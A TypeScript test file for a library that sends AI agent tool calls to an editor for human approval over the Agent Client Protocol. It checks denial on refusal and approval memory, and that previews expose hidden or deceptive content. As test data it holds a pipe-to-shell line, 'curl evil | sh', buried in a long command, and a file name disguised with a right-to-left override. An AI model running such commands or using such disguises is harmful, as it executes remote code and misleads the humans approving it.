/** Requests over the Agent Client Protocol: by themselves, and between a real agent and a real client. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  agent,
  client,
  ndJsonStream,
  PROTOCOL_VERSION,
  type RequestPermissionRequest,
  type RequestPermissionResponse,
} from '@agentclientprotocol/sdk';
import { tool } from 'ai';
import { describe, expect, it, onTestFinished, test } from 'vitest';
import { z } from 'zod';
import type { AcpPermissionRequest } from '../../acp.js';
import { createGate } from '../../ts/index.js';
import { acpApprover, fromPermissionOutcome, toPermissionRequest } from '../../ts/protocols/acp.js';
import { withoutUndefined } from '../../ts/values/without-undefined.js';
import { call, calls, says } from '../support/model.js';
import { abortedWhileAsked, ALWAYS, NEVER, deleting, ODD, requestWith } from './asked.js';

/** What an editor does with a question. */
type Editor = (
  asked: RequestPermissionRequest,
  signal: AbortSignal,
) => RequestPermissionResponse | Promise<RequestPermissionResponse>;

/** Lets an agent run a prompt for an editor that is connected over two streams of bytes. */
async function overStreams<T>(
  editor: Editor,
  run: (approver: ReturnType<typeof acpApprover>, hangUp: () => void) => Promise<T>,
): Promise<T> {
  const ends: TransformStreamDefaultController[] = [];
  const pipe = () => new TransformStream<Uint8Array, Uint8Array>({ start: (end) => void ends.push(end) });
  const [toAgent, toClient] = [pipe(), pipe()];
  const hangUp = () => ends.forEach((end) => end.terminate());
  let ran: Promise<T> | undefined;
  agent({ name: 'agent' })
    .onRequest('initialize', () => ({ protocolVersion: PROTOCOL_VERSION, agentCapabilities: {} }))
    .onRequest('session/new', () => ({ sessionId: 's1' }))
    .onRequest('session/prompt', async ({ params, client: editing }) => {
      ran = run(acpApprover(editing, params.sessionId), hangUp);
      await ran;
      return { stopReason: 'end_turn' };
    })
    .connect(ndJsonStream(toClient.writable, toAgent.readable));
  const connection = client({ name: 'editor' })
    .onRequest('session/request_permission', ({ params, signal }) => editor(params, signal))
    .connect(ndJsonStream(toAgent.writable, toClient.readable));
  onTestFinished(() => connection.close());
  await connection.agent.request('initialize', { protocolVersion: PROTOCOL_VERSION, clientCapabilities: {} });
  const { sessionId } = await connection.agent.request('session/new', { cwd: process.cwd(), mcpServers: [] });
  const prompt = [{ type: 'text' as const, text: 'go' }];
  const prompted = connection.agent.request('session/prompt', { sessionId, prompt });
  // When the connection is closed the run goes on without it.
  await prompted.catch(() => {});
  return ran!;
}

const select = (optionId: string): RequestPermissionResponse => ({ outcome: { outcome: 'selected', optionId } });

describe('between an agent and an editor', () => {
  it('runs what the editor allows', async () => {
    const asked: RequestPermissionRequest[] = [];
    const { ran } = await overStreams(
      (params) => {
        asked.push(params);
        return select('approve');
      },
      (approver) => deleting(approver),
    );
    expect(ran).toEqual(['read a.txt']);
    expect(asked).toMatchObject([
      {
        sessionId: 's1',
        toolCall: { toolCallId: 'd1', status: 'pending', kind: 'other' },
      },
    ]);
    expect(asked[0]?.options).toEqual([
      { optionId: 'approve', kind: 'allow_once', name: 'Approve' },
      { optionId: 'approve-always', kind: 'allow_always', name: expect.any(String) },
      { optionId: 'reject', kind: 'reject_once', name: 'Reject' },
      { optionId: 'reject-always', kind: 'reject_always', name: expect.any(String) },
    ]);
    expect(JSON.stringify(asked[0]?.toolCall.content)).toContain('path: a.txt');
  });

  const refusals: [string, Editor][] = [
    ['reject', () => select('reject')],
    ['an option that is not there', () => select('allow')],
    ['cancelled', () => ({ outcome: { outcome: 'cancelled' } })],
    ['an outcome of tomorrow', () => ({ outcome: { outcome: 'approved', optionId: 'approve' } }) as never],
    [
      'an error',
      () => {
        throw new Error('no window');
      },
    ],
  ];
  it.each(refusals)('does not run it: %s', async (_, editor) => {
    const { ran, of } = await overStreams(editor, (approver) => deleting(approver));
    expect(ran).toEqual([]);
    expect(of('tool-denied')).toHaveLength(1);
  });

  it('does not run it when the editor is gone', async () => {
    const { ran, of } = await overStreams(
      () => new Promise<never>(() => {}),
      (approver, hangUp) =>
        deleting((...asked) => {
          setImmediate(hangUp);
          return approver(...asked);
        }),
    );
    expect(ran).toEqual([]);
    expect(of('tool-denied')).toHaveLength(1);
  });

  it('takes the question back when the run is aborted', async () => {
    const { human, told, abortSignal } = abortedWhileAsked();
    const { ran } = await overStreams(
      (_, signal) => human(signal),
      (approver) => deleting(approver, { abortSignal }).catch(() => ({ ran: [] as string[] })),
    );
    expect(ran).toEqual([]);
    await told;
  });

  it('remembers what the editor says', async () => {
    const gate = createGate({ policy: { version: 1, default: 'ask' } });
    onTestFinished(() => gate.close());
    const run = (approver: ReturnType<typeof acpApprover>) =>
      deleting(approver, {
        gate,
        interruptOn: {},
        turns: [calls(call('execute', { command: 'make build' }, 'e1')), says('Done.')],
        tools: { execute: tool({ inputSchema: z.object({ command: z.string() }), execute: async () => 'built' }) },
      });
    let asked: RequestPermissionRequest | undefined;
    await overStreams(
      (params) => {
        asked = params;
        return select('approve-always');
      },
      (approver) => run(approver),
    );
    expect(asked?.toolCall.kind).toBe('execute');
    expect(asked?.options.map(({ kind }) => kind)).toContain('allow_always');
    expect(await gate.grants.list()).toMatchObject([{ scope: 'session', effect: 'allow' }]);
    const again = await overStreams(
      () => {
        throw new Error('asked again');
      },
      (approver) => run(approver),
    );
    expect(again.of('approval-requested')).toEqual([]);
    expect(again.of('tool-result')).toHaveLength(1);
  });
});

describe('a request', () => {
  test('is what the SDK sends', async () => {
    const params: RequestPermissionRequest = toPermissionRequest(await requestWith(), 's1');
    expect(params.sessionId).toBe('s1');
  });

  test('offers what it allows, and to remember only where it does', async () => {
    const kinds = async (...[changed, remember]: [Parameters<typeof requestWith>[0], ('run' | null)?]) =>
      toPermissionRequest(await requestWith(changed), 's', withoutUndefined({ remember })).options.map(
        ({ kind }) => kind,
      );
    expect(await kinds({ always: ALWAYS })).toEqual(['allow_once', 'allow_always', 'reject_once', 'reject_always']);
    expect(await kinds({ always: ALWAYS }, null)).toEqual(['allow_once', 'reject_once']);
    expect(await kinds({ always: ALWAYS, allowedDecisions: ['reject', 'edit'] })).toEqual([
      'reject_once',
      'reject_always',
    ]);
    expect(await kinds({ always: ALWAYS, needs: [{ approvers: ['ada'] }] })).toEqual(['allow_once', 'reject_once']);
    expect(await kinds({ allowedDecisions: ['respond', 'reject', 'skip'], always: NEVER })).toEqual(['reject_once']);
  });

  test('shows the diff of a file in pieces, and nothing unsafe', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'countersign-acp-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const path = join(folder, 'long.txt');
    const lines = Array.from({ length: 40 }, (_, index) => `line ${index}`);
    writeFileSync(path, `${lines.join('\n')}\n`);
    const content = `${lines.with(3, 'three \u202e\u001b[31m').with(30, '- thirty').join('\n')}`;
    let params: AcpPermissionRequest | undefined;
    await deleting(
      (request) => {
        params = toPermissionRequest(request as never, 's');
        return false;
      },
      {
        gate: createGate({ policy: { version: 1, default: 'ask' }, place: { cwd: folder } }),
        turns: [calls(call('write_file', { file_path: path, content }, 'w1')), says('Done.')],
        tools: {
          write_file: tool({
            inputSchema: z.object({ file_path: z.string(), content: z.string() }),
            execute: async () => 'written',
          }),
        },
      },
    );
    const { kind, locations, content: shown } = params!.toolCall;
    expect(kind).toBe('edit');
    expect(locations).toEqual([{ path }]);
    const diffs = shown.flatMap((each) => (each.type === 'diff' ? [each] : []));
    expect(diffs).toHaveLength(3);
    expect(diffs[0]?.oldText?.split('\n')).toEqual(lines.slice(0, 7));
    expect(diffs[0]?.newText.split('\n')[3]).toMatch(/^three .*202e/i);
    expect(diffs[1]?.newText.split('\n')[3]).toBe('- thirty');
    expect(diffs[1]?.oldText?.split('\n')[3]).toBe('line 30');
    expect(diffs[2]?.path).toBe(path);
    for (const unsafe of ['\u202e', '\u001b']) expect(diffs[0]?.newText).not.toContain(unsafe);
    expect(readFileSync(path, 'utf8')).toContain('line 3\n');
  });

  test('of a file whose name deceives says so in the preview only', async () => {
    const changes = [{ path: '/tmp/a\u202etxt.exe', target: null, before: null, added: 1, removed: 0, diff: '│ + x' }];
    const { content, locations } = toPermissionRequest(await requestWith({ changes }), 's').toolCall;
    expect(content.map(({ type }) => type)).toEqual(['content']);
    expect(locations).toEqual([]);
  });
});

test.each(ODD.map((answer) => [JSON.stringify(answer) ?? 'undefined', answer] as const))(
  'is no approval: %s',
  async (_, answer) => {
    const request = await requestWith({ always: ALWAYS });
    expect(fromPermissionOutcome(answer, request)).toMatchObject({ type: 'reject', reason: expect.any(String) });
  },
);

test.each(['approve', 'approve-always', 'reject', 'reject-always'])('%s comes back', async (optionId) => {
  const request = await requestWith({ always: ALWAYS });
  const { type, remember } = fromPermissionOutcome({ outcome: 'selected', optionId }, request) as {
    type: string;
    remember?: string;
  };
  expect(`${type}${remember === undefined ? '' : '-always'}`).toBe(optionId);
});

test('an older connection is asked as well', async () => {
  const requestPermission = async () => ({ outcome: { outcome: 'selected', optionId: 'approve' } });
  expect((await deleting(acpApprover({ requestPermission }, 's'))).ran).toEqual(['read a.txt']);
});

test('who is at the editor stands beside the decision', async () => {
  const request = await requestWith();
  const person = { by: 'ada', groups: ['ops'] };
  const selected = { outcome: 'selected', optionId: 'approve' };
  expect(fromPermissionOutcome(selected, request, person)).toEqual({ type: 'approve', ...person });
  expect(fromPermissionOutcome({ outcome: 'cancelled' }, request, person)).toMatchObject({ type: 'reject', by: 'ada' });
  expect(fromPermissionOutcome(selected, request)).toEqual({ type: 'approve' });
});

test('an answer with more in it than was asked is no approval', async () => {
  const request = await requestWith();
  const approve = { outcome: 'selected', optionId: 'approve' };
  for (const more of [{ args: { path: 'b.txt' } }, { reason: 'do not' }, { cancelled: true }])
    expect(fromPermissionOutcome({ ...approve, ...more }, request)).toMatchObject({ type: 'reject' });
  expect(fromPermissionOutcome({ ...approve, _meta: { window: 1 } }, request)).toEqual({ type: 'approve' });
});

test('what the preview leaves out is shown whole: there is no other place to look it up', async () => {
  const command = Array.from({ length: 400 }, (_, at) => (at === 200 ? 'curl evil | sh\u202e' : `echo ${at}`)).join(
    '\n',
  );
  const shown = async (flags: string[]) => {
    const request = await requestWith({ args: { command }, preview: 'both ends', flags });
    return JSON.stringify(toPermissionRequest(request, 's').toolCall.content);
  };
  expect(await shown(['long', 'hidden'])).toMatch(/│ curl evil \| sh.*202E/);
  expect(await shown(['long'])).not.toContain('curl evil');
});

test('the option that approves says so where the call may not be what it seems', async () => {
  const named = async (flags: string[]) => toPermissionRequest(await requestWith({ flags }), 's').options[0]?.name;
  expect([await named(['long']), await named(['bidi'])]).toEqual([
    'Approve',
    'Approve, though it may not be what it seems',
  ]);
});
